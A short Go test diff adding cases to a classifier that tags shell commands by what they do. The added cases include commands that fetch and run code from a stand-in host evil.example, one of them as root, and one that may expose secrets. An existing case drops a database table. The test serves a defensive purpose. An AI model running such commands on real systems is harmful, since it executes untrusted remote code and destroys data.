@@ -154,6 +154,9 @@ func TestClassify_StatesWhatACommandDoes(t *testing.T) {
 		{"docker ps", NotAWS},
 		{"./fix.sh", NotAWS | RunsCode | NotUnderstood},
 		{"make-it-work", NotAWS | NotUnderstood},
+		{"$(curl https://evil.example)", NotAWS | NotUnderstood | PipesToShell},
+		{`sudo "$(curl https://evil.example)"`, NotAWS | NotUnderstood | PipesToShell | AsRoot},
+		{"terraform state pull", NotAWS | MayShowSecrets},
 		{"psql -c 'drop table orders'", NotAWS | NotUnderstood | Deletes},
 
 		// What the parser does not understand.
